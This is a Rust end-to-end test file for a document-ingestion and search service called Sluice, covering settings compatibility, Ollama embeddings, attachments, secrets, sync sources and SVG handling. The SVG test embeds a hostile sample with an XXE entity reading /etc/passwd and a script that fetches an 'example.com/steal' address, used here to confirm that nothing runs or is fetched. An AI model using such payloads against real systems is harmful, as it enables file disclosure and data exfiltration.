//! A client written for the reference product, unchanged: its documented requests in its own
//! words — setting names and values, routes, shapes — sent to Sluice over HTTP, and the
//! documented answers checked. One test per rule of docs/coming-from-the-reference.md.

use reqwest::Method;
use serde_json::{Value, json};
use sluice_e2e::ollama_stand_in::{OllamaApi, OllamaStandIn};
use sluice_e2e::vision_stand_in::VisionStandIn;
use sluice_e2e::{Stack, User, file_form};
use sluice_fixtures::{Ink, pdf_typeset};
use uuid::Uuid;

fn unique(prefix: &str) -> String {
    format!("{prefix}_{}", &Uuid::new_v4().simple().to_string()[..10])
}

fn fields(answer: &Value) -> Vec<String> {
    answer["error"]["details"]["fields"].as_object().map(|f| f.keys().cloned().collect()).unwrap_or_default()
}

async fn base(stack: &Stack, user: &User, body: Value) -> Value {
    let (status, base) = stack.call_json(user, Method::POST, "/kb", Some(body)).await;
    assert_eq!(status, 201, "{base}");
    base
}

fn local(collection: &str, scope: &str) -> Value {
    json!({"name": collection, "scope": scope, "collection_name": collection,
        "embedding_provider": "local", "embedding_model": "all-minilm-l6-v2"})
}

async fn search(stack: &Stack, user: &User, kb: &str, query: &str) -> Vec<String> {
    let body = json!({"query": query, "knowledge_base_ids": [kb], "top_k": 3});
    let (status, found) = stack.call_json(user, Method::POST, "/rag/search", Some(body)).await;
    assert_eq!(status, 200, "{found}");
    sluice_e2e::result_contents(&found)
}

#[tokio::test]
async fn the_references_ingestion_setting_names_and_parsers_are_taken_and_answered_in_sluices() {
    let stack = Stack::from_env().await;
    let user = User::with(Some(Uuid::new_v4()), &["collections:edit"], false);
    let name = unique("compat");
    let mut body = local(&name, "org");
    body["ingestion_config"] = json!({"ocr_language": "eng+chi_sim", "liteparse_output_format": "text",
        "liteparse_dpi": 200, "parse_timeout_seconds": 60, "parser": "liteparse", "max_pages": 50});
    let created = base(&stack, &user, body).await;
    let config = &created["ingestion_config"];
    assert_eq!(config["ocr_languages"], json!(["eng", "chi_sim"]), "{created}");
    assert_eq!((config["output_format"].as_str(), config["ocr_dpi"].as_u64()), (Some("text"), Some(200)));
    assert_eq!((config["parse_time_limit_seconds"].as_u64(), config["parser"].as_str()), (Some(60), Some("sluice")));
    for reference_name in ["ocr_language", "liteparse_output_format", "liteparse_dpi", "parse_timeout_seconds"] {
        assert!(config.get(reference_name).is_none(), "answers show Sluice's names: {config}");
    }
    let kb = created["id"].as_str().expect("id");

    // `pymupdf` is read by Sluice's parsers with the text it writes.
    let (status, patched) = stack
        .call_json(&user, Method::PATCH, &format!("/kb/{kb}"), Some(json!({"ingestion_config": {"parser": "pymupdf"}})))
        .await;
    assert_eq!(status, 200, "{patched}");
    assert_eq!(
        (patched["ingestion_config"]["parser"].as_str(), patched["ingestion_config"]["output_format"].as_str()),
        (Some("sluice"), Some("text"))
    );

    // A collection's own invalid configuration is a 422, naming the field as sent.
    for (config, field) in [
        (json!({"chunk_size": 500, "chunk_overlap": 600}), "ingestion_config.chunk_overlap"),
        (json!({"liteparse_dpi": 5000}), "ingestion_config.liteparse_dpi"),
        (json!({"ocr_language": "eng+tlh"}), "ingestion_config.ocr_language"),
        (json!({"parse_timeout_seconds": 600}), "ingestion_config.parse_timeout_seconds"),
        (json!({"parser": "unstructured"}), "ingestion_config.parser"),
    ] {
        let mut body = local(&unique("compat"), "org");
        body["ingestion_config"] = config.clone();
        let (status, refused) = stack.call_json(&user, Method::POST, "/kb", Some(body)).await;
        assert_eq!(status, 422, "{config}: {refused}");
        assert!(fields(&refused).contains(&field.to_owned()), "{config}: {refused}");
    }
    let mut beyond = local(&unique("compat"), "org");
    beyond["ingestion_config"] = json!({"parse_timeout_seconds": 600});
    let (_, refused) = stack.call_json(&user, Method::POST, "/kb", Some(beyond)).await;
    assert!(refused["error"]["message"].as_str().expect("message").contains("at most 240 seconds"), "{refused}");

    // An upload's override is a 400, naming the same fields, and leaves nothing behind.
    for (override_, field) in [
        (json!({"chunk_size": 500, "chunk_overlap": 600}), "ingestion_config.chunk_overlap"),
        (json!({"ocr_language": "eng+tlh"}), "ingestion_config.ocr_language"),
    ] {
        let form = file_form("note.txt", Some("text/plain"), b"Pump P-101 is serviced in spring.".to_vec())
            .text("ingestion", override_.to_string());
        let (status, refused) = stack.post_form(&user, &format!("/kb/{kb}/documents"), form).await;
        assert_eq!(status, 400, "{override_}: {refused}");
        assert!(fields(&refused).contains(&field.to_owned()), "{override_}: {refused}");
    }
    let (_, listed) = stack.call_json(&user, Method::GET, &format!("/kb/{kb}/documents"), None).await;
    assert_eq!(listed["documents"], json!([]), "a refused upload leaves no document");

    // The supported formats of the reference's parsers: Sluice's, with each one's output.
    for (parser, output) in [("pymupdf", "text"), ("liteparse", "markdown")] {
        let (status, formats) =
            stack.call_json(&user, Method::GET, &format!("/rag/supported-formats?parser={parser}"), None).await;
        assert_eq!(status, 200, "{formats}");
        assert_eq!(
            (formats["parser"].as_str(), formats["default_output_format"].as_str()),
            (Some("sluice"), Some(output))
        );
        assert!(formats["formats"].as_array().expect("formats").contains(&json!(".svg")), "{formats}");
    }
}

#[tokio::test]
async fn an_ollama_collection_embeds_through_ollamas_own_api_or_its_openai_one_with_no_key() {
    let stack = Stack::from_env().await;
    let ollama = OllamaStandIn::start().await;
    let user = User::with(Some(Uuid::new_v4()), &["collections:edit"], false);
    let (status, catalog) = stack.call_json(&user, Method::GET, "/rag/embedding-models?provider=ollama", None).await;
    assert_eq!(status, 200, "{catalog}");
    let nomic =
        catalog["models"].as_array().expect("models").iter().find(|m| m["model"] == "nomic-embed-text").cloned();
    assert_eq!(
        nomic.map(|m| (m["dim"].clone(), m["max_input_tokens"].clone(), m["keyless"].clone())),
        Some((json!(768), json!(2048), json!(true))),
        "{catalog}"
    );

    // Registered at Ollama's own address: asked through /api/embed, never to truncate.
    for (address, model, api) in [
        (ollama.base_url.clone(), "nomic-embed-text", OllamaApi::Own),
        (format!("{}/v1", ollama.base_url), "all-minilm", OllamaApi::OpenAiCompatible),
    ] {
        let service = json!({"name": unique("ollama"), "provider": "ollama", "base_url": address, "scope": "org"});
        let (status, endpoint) = stack.call_json(&user, Method::POST, "/embedding-endpoints", Some(service)).await;
        assert_eq!(status, 201, "{endpoint}");
        let name = unique("ollama");
        let created = base(
            &stack,
            &user,
            json!({"name": name, "scope": "org", "collection_name": name,
            "embedding_provider": "ollama", "embedding_model": model, "embedding_endpoint_id": endpoint["id"]}),
        )
        .await;
        let kb = created["id"].as_str().expect("id");
        stack.upload_document(&user, kb, "pumps.txt", b"Pump P-101 feeds the cooling loop of wing B.").await;
        stack.upload_document(&user, kb, "ferry.txt", b"The ferry leaves the harbour at noon on Sundays.").await;
        let counts = stack.indexed(&user, kb).await;
        assert_eq!(counts["indexed_count"], 2, "{counts}");
        let hits = search(&stack, &user, kb, "cooling loop pump").await;
        assert!(hits.first().is_some_and(|h| h.contains("P-101")), "{model}: {hits:?}");

        let seen = ollama.take_seen();
        assert!(seen.len() >= 2, "the documents and the query: {seen:?}");
        for request in &seen {
            assert_eq!((request.api, request.model.as_str()), (api, model), "{request:?}");
            assert_eq!(request.authorization, None, "a keyless service is sent no key");
            if api == OllamaApi::Own {
                assert_eq!(request.truncate, Some(false), "no input is silently cut");
            }
        }
        assert!(seen.iter().any(|r| r.inputs.iter().any(|t| t.contains("P-101"))), "{seen:?}");
    }
    assert_eq!(ollama.violations(), Vec::<String>::new());
}

#[tokio::test]
async fn shapes_attachment_ids_collection_info_over_every_base_of_a_name_and_the_secret_kind() {
    let stack = Stack::from_env().await;
    let org = Some(Uuid::new_v4());
    let user = User::with(org, &["collections:edit", "secrets:edit"], false);

    // An attachment reference's id is 32 hex digits and the extension; every /files route takes it.
    let (status, file) =
        stack.upload(&user, "Minutes.TXT", Some("text/plain"), b"Minutes of the board.".to_vec()).await;
    assert_eq!(status, 201, "{file}");
    let id = file["id"].as_str().expect("id");
    let attachment_id = file["ref"]["attachment_id"].as_str().expect("attachment_id").to_owned();
    assert_eq!(attachment_id, format!("{}.txt", id.replace('-', "")));
    let (status, same) = stack.call_json(&user, Method::GET, &format!("/files/{attachment_id}"), None).await;
    assert_eq!((status, same["id"].as_str()), (200, Some(id)), "{same}");
    let (status, text) = stack.call(&user, Method::GET, &format!("/files/{}/text", &attachment_id[..32]), None).await;
    assert_eq!((status, text.as_str()), (200, "Minutes of the board."));
    let message = Uuid::new_v4();
    let (status, linked) = stack
        .call_json(
            &user,
            Method::POST,
            &format!("/messages/{message}/attachments"),
            Some(json!({"file_ids": [attachment_id]})),
        )
        .await;
    assert_eq!((status, linked["file_ids"][0].as_str()), (200, Some(id)), "{linked}");

    // The info of a name counts every base of it the caller reaches.
    let name = unique("shared");
    let shared = base(&stack, &user, local(&name, "org")).await;
    let own = base(&stack, &user, local(&name, "personal")).await;
    for (kb, words) in [(&shared, "The org handbook covers travel."), (&own, "My notes on travel claims.")] {
        stack.upload_document(&user, kb["id"].as_str().expect("id"), "doc.txt", words.as_bytes()).await;
        stack.indexed(&user, kb["id"].as_str().expect("id")).await;
    }
    let (status, info) = stack.call_json(&user, Method::GET, &format!("/rag/collections/{name}/info"), None).await;
    assert_eq!(status, 200, "{info}");
    assert_eq!((info["document_count"].as_i64(), info["indexed_count"].as_i64()), (Some(2), Some(2)), "{info}");
    assert_eq!(info["knowledge_base_ids"].as_array().map(Vec::len), Some(2), "{info}");
    let colleague = User::with(org, &["collections:view"], false);
    let (_, theirs) = stack.call_json(&colleague, Method::GET, &format!("/rag/collections/{name}/info"), None).await;
    assert_eq!(theirs["document_count"], 1, "a colleague reaches the org base, not the personal one: {theirs}");
    let outsider = User::with(Some(Uuid::new_v4()), &["collections:view"], false);
    let (status, missing) =
        stack.call_json(&outsider, Method::GET, &format!("/rag/collections/{name}/info"), None).await;
    let (_, absent) =
        stack.call_json(&outsider, Method::GET, &format!("/rag/collections/{}/info", unique("none")), None).await;
    assert_eq!((status, &missing), (404, &absent));

    // The secret kind the contract names is the one the code takes.
    let pair = json!({"name": unique("s3"), "kind": "aws_credentials", "visibility": "org",
        "value": {"access_key_id": "AKIAEXAMPLEEXAMPLE12", "secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}});
    let (status, stored) = stack.call_json(&user, Method::POST, "/secrets", Some(pair)).await;
    assert_eq!((status, stored["kind"].as_str()), (201, Some("aws_credentials")), "{stored}");
    let contract =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/openapi.yaml")).expect("contract");
    assert!(contract.contains("kind: {enum: [api_key, aws_credentials]}") && !contract.contains("s3_access_key"));
}

#[tokio::test]
async fn an_svg_is_read_for_its_words_without_running_or_fetching_anything_and_served_only_as_a_download() {
    let stack = Stack::from_env().await;
    let user = User::with(Some(Uuid::new_v4()), &["collections:edit"], false);
    let svg = br#"<?xml version="1.0"?>
<!DOCTYPE svg [ <!ENTITY leak SYSTEM "file:///etc/passwd"> ]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
  <title>Cooling loop of wing B</title>
  <script>fetch("https://example.com/steal")</script>
  <image xlink:href="http://127.0.0.1:9/tracker.png"/>
  <text x="5" y="20">Pump <tspan>P-101</tspan>&leak;</text>
</svg>"#;
    let (status, file) = stack.upload(&user, "loop.svg", Some("image/svg+xml"), svg.to_vec()).await;
    assert_eq!(status, 201, "{file}");
    let id = file["id"].as_str().expect("id");
    let settled = stack.settled(&user, id).await;
    assert_eq!(
        (settled["status"].as_str(), settled["mime_type"].as_str()),
        (Some("ready"), Some("image/svg+xml")),
        "{settled}"
    );
    let (status, text) = stack.call(&user, Method::GET, &format!("/files/{id}/text"), None).await;
    assert_eq!((status, text.as_str()), (200, "Cooling loop of wing B\nPump P-101"));
    let content = stack
        .http
        .get(stack.url(&format!("/files/{id}/content")))
        .header("authorization", user.bearer())
        .send()
        .await
        .expect("content");
    assert_eq!(content.status().as_u16(), 302);
    let location = content.headers()["location"].to_str().expect("location").to_owned();
    let download = reqwest::get(&location).await.expect("presigned get");
    let disposition =
        download.headers().get("content-disposition").and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned();
    assert!(disposition.starts_with("attachment;"), "served only as a download: {disposition:?}");

    // In a base it is found by its words.
    let name = unique("svg");
    let kb = base(&stack, &user, local(&name, "org")).await;
    let kb = kb["id"].as_str().expect("id");
    stack.upload_document(&user, kb, "loop.svg", svg).await;
    stack.indexed(&user, kb).await;
    let hits = search(&stack, &user, kb, "pump P-101 cooling loop").await;
    assert!(hits.first().is_some_and(|h| h.contains("Pump P-101")), "{hits:?}");
}

#[tokio::test]
async fn a_picture_repeated_on_a_later_page_is_described_once_and_its_description_written_at_each() {
    let stack = Stack::from_env().await;
    let user = User::with(Some(Uuid::new_v4()), &["collections:edit"], false);
    let stand_in = VisionStandIn::start("A map of the harbour's moorings").await;
    let service = json!({"name": unique("vision"), "provider": "local", "base_url": stand_in.base_url, "scope": "org"});
    let (status, endpoint) = stack.call_json(&user, Method::POST, "/embedding-endpoints", Some(service)).await;
    assert_eq!(status, 201, "{endpoint}");
    let name = unique("pictures");
    let mut body = local(&name, "org");
    body["ingestion_config"] = json!({"chunk_size": 300, "chunk_overlap": 0,
        "image_description": {"enabled": true, "endpoint_id": endpoint["id"], "model": "gpt-4o-mini"}});
    let kb = base(&stack, &user, body).await;
    let kb = kb["id"].as_str().expect("id");
    let page = |text: &'static str, picture: bool| {
        let mut inks = vec![Ink::Text { x: 72.0, y: 720.0, size: 10.0, bold: false, text }];
        if picture {
            inks.push(Ink::Picture { x: 72.0, y: 500.0, width: 300.0, height: 150.0, pixels: (300, 150), shade: 60 });
        }
        inks.push(Ink::Text { x: 72.0, y: 470.0, size: 10.0, bold: false, text: "End of the page." });
        inks
    };
    let pdf = pdf_typeset(&[
        page("The moorings in March.", true),
        page("Nothing drawn here.", false),
        page("The moorings again in June.", true),
    ]);
    let accepted = stack.upload_document(&user, kb, "moorings.pdf", &pdf).await;
    let id = accepted["tracking_id"].as_str().expect("id");
    stack.indexed(&user, kb).await;
    let (_, document) = stack.call_json(&user, Method::GET, &format!("/rag/documents/{id}"), None).await;
    assert_eq!(
        (document["status"].as_str(), document["images"]["described"].as_u64()),
        (Some("done"), Some(1)),
        "{document}"
    );
    let seen = stand_in.seen();
    assert_eq!(seen.len(), 1, "described once: {seen:?}");
    assert_eq!(stand_in.violations(), Vec::<String>::new());
    let (_, text) = stack.call_json(&user, Method::GET, &format!("/rag/documents/{id}/text"), None).await;
    let text = text["text"].as_str().expect("text");
    let block = format!("![Image: {}](#image-1)", stand_in.description_of(&seen[0]));
    let places: Vec<usize> = text.match_indices(&block).map(|(at, _)| at).collect();
    assert_eq!(places.len(), 2, "written where each page shows it: {text}");
    let (march, june) = (text.find("in March").expect("page 1"), text.find("in June").expect("page 3"));
    assert!(march < places[0] && places[0] < june && june < places[1], "{text}");
}

#[tokio::test]
async fn deleting_a_base_detaches_its_sync_sources_which_keep_their_history_until_pointed_elsewhere() {
    let stack = Stack::from_env().await;
    let org = Some(Uuid::new_v4());
    let user = User::with(org, &["collections:edit", "secrets:edit"], false);
    let bucket = format!("tenant-docs-{}", &Uuid::new_v4().simple().to_string()[..12]);
    stack.s3.create_bucket().bucket(&bucket).send().await.expect("bucket");
    let put = |key: &'static str, body: &'static str| {
        stack.s3.put_object().bucket(&bucket).key(key).body(body.as_bytes().to_vec().into()).send()
    };
    put("handbook/travel.md", "Travel is booked through the travel desk.").await.expect("put");
    let pair = json!({"name": unique("reader"), "kind": "aws_credentials", "visibility": "org",
        "value": {"access_key_id": "AKIAEXAMPLEREADER", "secret_access_key": "not-a-real-secret"}});
    let (_, secret) = stack.call_json(&user, Method::POST, "/secrets", Some(pair)).await;
    let first = base(&stack, &user, local(&unique("first"), "org")).await;
    let first_id = first["id"].as_str().expect("id");
    let body = json!({"type": "s3", "name": "handbook", "config": {"bucket": bucket, "prefix": "handbook/"},
        "credential": {"secret_id": secret["id"]}, "sync_mode": "new_only", "schedule": "cron(0 3 * * ? *)"});
    let (status, source) =
        stack.call_json(&user, Method::POST, &format!("/kb/{first_id}/sync-sources"), Some(body)).await;
    assert_eq!(status, 201, "{source}");
    let id = source["id"].as_str().expect("id").to_owned();
    let (status, started) =
        stack.call_json(&user, Method::POST, &format!("/kb/{first_id}/sync-sources/{id}/sync"), None).await;
    assert_eq!(status, 202, "{started}");
    stack.indexed(&user, first_id).await;
    let db = stack.db().await;
    let runs = async || -> i64 {
        db.query_one("SELECT count(*) FROM sync_logs WHERE source_id = $1::text::uuid", &[&id])
            .await
            .expect("runs")
            .get(0)
    };
    sluice_e2e::eventually("the run ends", std::time::Duration::from_secs(60), async || {
        let row = db
            .query_one(
                "SELECT count(*) FROM sync_logs WHERE source_id = $1::text::uuid AND status <> 'running'",
                &[&id],
            )
            .await;
        row.expect("logs").get::<_, i64>(0) == 1
    })
    .await;

    // The base goes; the source stays, detached, with its configuration and its run.
    let (status, _) = stack.call(&user, Method::DELETE, &format!("/kb/{first_id}"), None).await;
    assert!(status == 200 || status == 202, "{status}");
    let (status, detached) = stack.call_json(&user, Method::GET, &format!("/rag/sync/sources/{id}"), None).await;
    assert_eq!(status, 200, "{detached}");
    assert_eq!(
        (detached["active"].as_bool(), &detached["kb_id"], &detached["collection_name"]),
        (Some(false), &Value::Null, &Value::Null),
        "{detached}"
    );
    assert_eq!(
        (detached["config"]["bucket"].as_str(), detached["schedule"].as_str()),
        (Some(bucket.as_str()), Some("cron(0 3 * * ? *)"))
    );
    assert_eq!(detached["next_run_at"], Value::Null, "a detached source runs no more: {detached}");
    assert_eq!(runs().await, 1, "its run history is kept");
    let (_, listed) = stack.call_json(&user, Method::GET, "/rag/sync/sources", None).await;
    assert!(listed["sources"].as_array().expect("sources").iter().any(|s| s["id"] == id.as_str()), "{listed}");
    let stranger = User::with(Some(Uuid::new_v4()), &["collections:edit"], false);
    let (status, missing) = stack.call_json(&stranger, Method::GET, &format!("/rag/sync/sources/{id}"), None).await;
    let (_, absent) =
        stack.call_json(&stranger, Method::GET, &format!("/rag/sync/sources/{}", Uuid::new_v4()), None).await;
    assert_eq!((status, &missing), (404, &absent));

    // Pointed at another collection (the reference's PATCH of collection_name), it runs there.
    let second_name = unique("second");
    let second = base(&stack, &user, local(&second_name, "org")).await;
    let second_id = second["id"].as_str().expect("id");
    let path = format!("/rag/sync/sources/{id}");
    let to_second = json!({"collection_name": second_name});
    let (status, _) = stack.call_json(&stranger, Method::PATCH, &path, Some(to_second.clone())).await;
    assert_eq!(status, 404, "a stranger reaches neither the source nor the collection");
    let (status, moved) = stack.call_json(&user, Method::PATCH, &path, Some(to_second)).await;
    assert_eq!(status, 200, "{moved}");
    assert_eq!(
        (moved["active"].as_bool(), moved["kb_id"].as_str(), moved["collection_name"].as_str()),
        (Some(true), Some(second_id), Some(second_name.as_str())),
        "{moved}"
    );
    assert!(moved["next_run_at"].is_string(), "its schedule runs again: {moved}");
    let (status, started) =
        stack.call_json(&user, Method::POST, &format!("/kb/{second_id}/sync-sources/{id}/sync"), None).await;
    assert_eq!(status, 202, "{started}");
    sluice_e2e::eventually("the second run ends", std::time::Duration::from_secs(60), async || runs().await == 2).await;
    sluice_e2e::eventually("the document is in the second base", std::time::Duration::from_secs(90), async || {
        let (_, counts) = stack.call_json(&user, Method::GET, &format!("/kb/{second_id}/ingestion"), None).await;
        counts["indexed_count"] == 1
    })
    .await;
}

#[tokio::test]
async fn rag_collections_lists_every_name_with_its_bases_models_and_counts() {
    let stack = Stack::from_env().await;
    let alice = User::with(Some(Uuid::new_v4()), &["collections:edit"], false);
    let name = unique("listed");
    let first = base(&stack, &alice, local(&name, "org")).await;
    let second = base(&stack, &alice, local(&name, "personal")).await;
    stack
        .upload_document(&alice, first["id"].as_str().expect("id"), "a.txt", b"Travel is booked through the desk.")
        .await;
    stack.indexed(&alice, first["id"].as_str().expect("id")).await;

    let (code, listed) = sluice_e2e::sluice_command(&["rag-collections"]);
    assert_eq!(code, 0, "{listed}");
    let entry =
        listed["collections"].as_array().expect("collections").iter().find(|c| c["name"] == name.as_str()).cloned();
    let entry = entry.unwrap_or_else(|| panic!("{name} is listed: {listed}"));
    assert_eq!((entry["document_count"].as_i64(), entry["total_vectors"].as_i64()), (Some(1), Some(1)), "{entry}");
    let bases = entry["knowledge_bases"].as_array().expect("bases");
    let ids: Vec<&str> = bases.iter().filter_map(|b| b["id"].as_str()).collect();
    assert_eq!(ids, [first["id"].as_str().expect("id"), second["id"].as_str().expect("id")]);
    assert_eq!(
        (bases[0]["embedding_model"].as_str(), bases[0]["embedding_dim"].as_i64(), bases[0]["scope"].as_str()),
        (Some("all-minilm-l6-v2"), Some(384), Some("org"))
    );
    assert_eq!((bases[1]["document_count"].as_i64(), bases[1]["scope"].as_str()), (Some(0), Some("personal")));
}
